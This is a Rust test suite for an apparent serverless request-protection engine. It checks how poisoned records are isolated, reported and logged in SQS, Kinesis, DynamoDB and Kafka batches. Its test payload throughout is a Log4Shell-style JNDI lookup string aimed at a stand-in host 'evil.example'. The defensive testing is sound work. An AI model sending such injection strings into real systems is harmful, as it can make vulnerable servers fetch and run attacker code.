//! Batches with blocked records: what the handler gets, what the poller is told, what the log says.

use hauberk_core::act::{Refusal, Rest};
use hauberk_core::engine::{Engine, Setting};
use hauberk_core::policy::Policy;
use hauberk_core::record::Entry;
use proptest::prelude::*;
use serde_json::{Value, json};

const ATTACK: &str = "${jndi:ldap://evil.example/a}";

fn engine(batch: &str) -> Engine {
    let policy = json!({"hauberk": 1, "function": "f", "mode": "prevent", "batch": batch});
    Engine::new(
        Policy::read(policy.to_string().as_bytes()).unwrap(),
        Setting::default(),
    )
}

fn begin(event: &str) -> (Option<Refusal>, Vec<Entry>) {
    engine("report-item-failures").begin(0, "r", event.as_bytes())
}

/// What is left of a batch of which records fail alone.
fn rest(event: &Value) -> Rest {
    match begin(&event.to_string()).0 {
        Some(Refusal::Records(rest)) => rest,
        other => panic!("{other:?}: {event}"),
    }
}

fn left(rest: &Rest) -> Value {
    rest.event
        .as_ref()
        .map_or(Value::Null, |event| serde_json::from_slice(event).unwrap())
}

fn sqs(id: &str, body: &str) -> Value {
    json!({"messageId": id, "body": body, "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:1:q",
           "attributes": {"MessageGroupId": "g"}})
}

fn fifo(id: &str, group: &str, body: &str) -> Value {
    json!({"messageId": id, "body": body, "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:1:q.fifo",
           "attributes": {"MessageGroupId": group}})
}

fn kinesis(number: &str, text: &str) -> Value {
    json!({"kinesis": {"sequenceNumber": number, "data": text}, "eventSource": "aws:kinesis"})
}

fn dynamodb(number: &str, text: &str) -> Value {
    json!({"eventSource": "aws:dynamodb", "dynamodb": {"SequenceNumber": number, "NewImage": {"a": {"S": text}}}})
}

fn kafka(topic: &str, offset: u64, text: &str) -> Value {
    json!({"topic": topic, "partition": 0, "offset": offset, "value": text})
}

fn batch(records: &[Value]) -> Value {
    json!({"Records": records})
}

#[test]
fn only_the_poisoned_records_fail() {
    let rows = [
        (
            batch(&[sqs("a", "x y"), sqs("b", ATTACK), sqs("c", "z z")]),
            batch(&[sqs("a", "x y"), sqs("c", "z z")]),
            json!(["b"]),
        ),
        (
            batch(&[
                kinesis("1", ATTACK),
                kinesis("2", "x y"),
                kinesis("3", ATTACK),
            ]),
            batch(&[kinesis("2", "x y")]),
            json!(["1", "3"]),
        ),
        (
            batch(&[dynamodb("7", "x y"), dynamodb("8", ATTACK)]),
            batch(&[dynamodb("7", "x y")]),
            json!(["8"]),
        ),
        // All are poisoned: the handler does not run.
        (
            batch(&[sqs("a", ATTACK), sqs("b", ATTACK)]),
            Value::Null,
            json!(["a", "b"]),
        ),
        // In order, and of one group only: what comes after in it fails, too.
        (
            batch(&[
                fifo("a", "g", "x y"),
                fifo("b", "g", ATTACK),
                fifo("c", "h", "x y"),
                fifo("d", "g", "x y"),
            ]),
            batch(&[fifo("a", "g", "x y"), fifo("c", "h", "x y")]),
            json!(["b", "d"]),
        ),
        (
            json!({"eventSource": "aws:kafka", "records": {
                "t-0": [kafka("t", 4, "x y"), kafka("t", 5, ATTACK)], "t-1": [kafka("t", 9, ATTACK)], "u-0": [kafka("u", 1, "z z")]}}),
            json!({"eventSource": "aws:kafka", "records": {"t-0": [kafka("t", 4, "x y")], "u-0": [kafka("u", 1, "z z")]}}),
            json!([{"partition": "t-0", "offset": 5}, {"partition": "t-1", "offset": 9}]),
        ),
    ];
    for (event, expected, failures) in rows {
        let rest = rest(&event);
        assert_eq!(left(&rest), expected, "{event}");
        let told: Value = serde_json::from_str(&rest.failures).unwrap();
        let expected = failures.as_array().unwrap().iter();
        let expected: Vec<_> = expected.map(|id| json!({"itemIdentifier": id})).collect();
        assert_eq!(told, Value::Array(expected), "{event}");
    }
}

#[test]
fn a_batch_is_refused_whole_where_single_records_cannot_fail() {
    let ordinary = batch(&[sqs("a", "x y"), sqs("b", ATTACK)]);
    let text = ordinary.to_string();
    let rows = [
        json!({"Records": [{"EventSource": "aws:sns", "Sns": {"Message": ATTACK}}]}).to_string(),
        json!({"Records": [{"eventSource": "aws:s3", "s3": {"object": {"key": ATTACK}}}]})
            .to_string(),
        json!({"deliveryStreamArn": "a", "records": [{"recordId": "1", "data": ATTACK}]})
            .to_string(),
        json!({"requestContext": {"http": {}}, "body": ATTACK}).to_string(),
        // Something is blocked that is in no record.
        json!({"Records": [sqs("a", "x y"), sqs("b", ATTACK)], "note": ATTACK}).to_string(),
        json!({"note": ATTACK, "Records": [sqs("a", ATTACK)]}).to_string(),
        // A record has no name.
        json!({"Records": [{"eventSource": "aws:sqs", "body": ATTACK}]}).to_string(),
        json!({"Records": [sqs("", ATTACK)]}).to_string(),
        // Readers differ about which records these are.
        text.replacen('{', r#"{"Records": [], "#, 1),
        text.replacen("\"x y\"", "NaN", 1),
        json!({"Records": [sqs("a", ATTACK), ATTACK]}).to_string(),
    ];
    for event in rows {
        let (refusal, _) = begin(&event);
        assert!(matches!(refusal, Some(Refusal::Event { .. })), "{event}");
    }
    for policy in ["whole", "report-item-failures"] {
        let (refusal, _) = engine(policy).begin(0, "r", text.as_bytes());
        let is_whole = matches!(refusal, Some(Refusal::Event { .. }));
        assert_eq!(is_whole, policy == "whole");
    }
}

#[test]
fn every_blocked_record_is_told_with_its_path_and_its_name() {
    let event = batch(&[sqs("a", ATTACK), sqs("b", "x y"), sqs("c", ATTACK)]).to_string();
    for policy in ["whole", "report-item-failures"] {
        let (_, entries) = engine(policy).begin(0, "r", event.as_bytes());
        let told: Vec<_> = entries
            .iter()
            .map(|entry| {
                let input = entry.body.input.as_ref().unwrap();
                (entry.level, input.path.as_str(), entry.body.item.as_deref())
            })
            .collect();
        assert_eq!(
            told,
            [
                ("FATAL", "Records[0].body", Some("a")),
                ("FATAL", "Records[2].body", Some("c"))
            ]
        );
    }
    let event = json!({"eventSource": "aws:kafka", "records": {"t-0": [kafka("t", 5, ATTACK)]}});
    let (_, entries) = begin(&event.to_string());
    assert_eq!(entries[0].body.item.as_deref(), Some("t-0@5"));
}

#[test]
fn a_flood_of_poisoned_records_is_told_in_bounds_and_counted() {
    let records: Vec<_> = (0..3_000).map(|n| sqs(&n.to_string(), ATTACK)).collect();
    let (refusal, entries) = begin(&batch(&records).to_string());
    let Some(Refusal::Records(rest)) = refusal else {
        panic!("refused whole");
    };
    assert_eq!(rest.event, None);
    assert_eq!(entries.len(), 22);
    let message = entries[20].body.message.as_deref().unwrap();
    assert!(message.starts_with("more was detected in this invocation than the 20"));
    let message = entries.last().unwrap().body.message.as_deref().unwrap();
    assert!(message.starts_with("3000 records of the batch were blocked"));
}

#[test]
fn the_bytes_of_what_is_left_are_the_events_own() {
    let kept =
        r#"{ "messageId":"a" , "eventSource": "aws:sqs","body" : "\u0041\/ \ud800", "n": 1.50E+2}"#;
    let poisoned = format!(r#"{{"messageId": "b", "body": "{ATTACK}"}}"#);
    let event =
        format!("{{\"a\" : 1,  \"Records\" :[ {poisoned} ,\n{kept}\t, {kept}], \"z\": [ ]}} ");
    let event = event.replacen("\"b\", ", "\"b\", \"eventSource\": \"aws:sqs\", ", 1);
    let Some(Refusal::Records(rest)) = begin(&event).0 else {
        panic!("refused whole");
    };
    let expected = format!("{{\"a\" : 1,  \"Records\" :[{kept},{kept}], \"z\": [ ]}} ");
    assert_eq!(String::from_utf8(rest.event.unwrap()).unwrap(), expected);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn the_rest_is_what_was_not_poisoned_and_passes(poisoned in proptest::collection::vec(any::<bool>(), 1..12)) {
        let text = |is_poisoned: &bool| if *is_poisoned { ATTACK } else { "x y" };
        let records: Vec<_> = poisoned.iter().enumerate().map(|(n, one)| sqs(&n.to_string(), text(one))).collect();
        let (refusal, _) = begin(&batch(&records).to_string());
        let (bad, good): (Vec<_>, Vec<_>) = records.into_iter().partition(|record| record["body"] == ATTACK);
        if bad.is_empty() {
            prop_assert_eq!(refusal, None);
            return Ok(());
        }
        let Some(Refusal::Records(rest)) = refusal else {
            return Err(TestCaseError::fail("refused whole"));
        };
        let failures: Value = serde_json::from_str(&rest.failures).unwrap();
        let names: Vec<_> = bad.iter().map(|record| json!({"itemIdentifier": record["messageId"]})).collect();
        prop_assert_eq!(failures, Value::Array(names));
        if good.is_empty() {
            prop_assert_eq!(rest.event, None);
        } else {
            prop_assert_eq!(left(&rest), batch(&good));
            let again = String::from_utf8(rest.event.unwrap()).unwrap();
            prop_assert_eq!(begin(&again).0, None);
        }
    }
}
